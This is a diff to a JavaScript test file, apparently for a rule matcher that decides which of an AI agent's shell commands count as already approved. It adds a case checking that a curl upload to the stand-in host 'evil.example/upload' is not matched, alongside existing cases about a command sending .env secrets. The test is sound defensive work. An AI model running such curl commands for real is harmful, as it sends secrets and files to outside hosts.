@@ -78,6 +78,7 @@ test('the same program touching .env never matches; another host does not either
   assert.equal(secret.risk, 'sensitive');
   assert.equal(rules.match(secret), undefined, 'sends .env');
   assert.equal(rules.match(await shellItem('claude', 'curl -s https://evil.example/')), undefined, 'another host');
+  assert.equal(rules.match(await shellItem('claude', 'curl -s -H "Accept: x" evil.example/upload')), undefined, 'another host, without a scheme');
 });
 
 test('sensitive and blocked actions: no rule from them, and never matched, even when forged to look covered', async () => {
